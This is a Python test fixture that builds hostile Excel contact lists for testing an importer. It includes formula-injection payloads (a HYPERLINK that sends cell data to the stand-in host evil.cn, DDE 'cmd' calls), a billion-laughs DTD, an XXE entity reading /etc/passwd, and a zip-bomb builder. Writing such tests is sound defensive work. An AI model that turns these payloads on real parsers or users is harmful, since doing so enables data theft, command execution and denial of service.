"""Hostile contact lists for the tests: formula injection, zip bombs, entity expansion.

Built in the test (nothing large is committed): a workbook saved by openpyxl, with one of its
parts swapped for a hostile one written as a stream, so a bomb of hundreds of MB never sits
in the test's own memory.
"""

from __future__ import annotations

import zipfile
from collections.abc import Iterable, Sequence
from pathlib import Path

from openpyxl import Workbook

HEADER = ["手机号", "姓名", "性别", "年龄", "地区", "身份证号", "当前套餐", "订单号"]

# What people put in a cell to make a spreadsheet program run something (OWASP's examples,
# and the forms that get past a check for "=" alone).
FORMULAS = [
    '=HYPERLINK("http://evil.cn/?"&A1,"领奖")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+2",
    "＝1+1",
    "＠SUM(1,2)",
]

SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
              for i in range(1, 10))
    + "]>\n")
EXTERNAL_ENTITY = ('<?xml version="1.0"?>\n<!DOCTYPE x [\n'
                   '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n')


def workbook(path: Path, rows: Iterable[Sequence[object]]) -> Path:
    """An ordinary workbook, as openpyxl saves it."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def swap_part(path: Path, part: str, chunks: Iterable[bytes]) -> Path:
    """Rewrite the workbook at *path* with *part* replaced by the bytes of *chunks*,
    compressed as it is written."""
    original = path.with_suffix(".orig.xlsx")
    path.rename(original)
    with zipfile.ZipFile(original) as source, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            if info.filename != part:
                target.writestr(info, source.read(info))
        with target.open(part, "w", force_zip64=True) as stream:
            for chunk in chunks:
                stream.write(chunk)
    original.unlink()
    return path


def zip_bomb(path: Path, megabytes: int) -> Path:
    """A workbook whose sheet is one cell of *megabytes* MB of "A": a few hundred KB on disk."""
    workbook(path, [HEADER])
    block = b"A" * (1 << 20)
    head = (f'<?xml version="1.0"?><worksheet xmlns="{SHEET_NS}"><sheetData><row r="1">'
            '<c r="A1" t="inlineStr"><is><t>').encode()
    tail = b"</t></is></c></row></sheetData></worksheet>"
    return swap_part(path, SHEET, [head, *(block for _ in range(megabytes)), tail])


def entity_sheet(path: Path, doctype: str, reference: str) -> Path:
    """A workbook whose sheet declares entities and uses *reference* in its first cell."""
    workbook(path, [HEADER])
    xml = (f'{doctype}<worksheet xmlns="{SHEET_NS}"><sheetData><row r="1">'
           f'<c r="A1" t="inlineStr"><is><t>{reference}</t></is></c></row></sheetData>'
           "</worksheet>")
    return swap_part(path, SHEET, [xml.encode()])
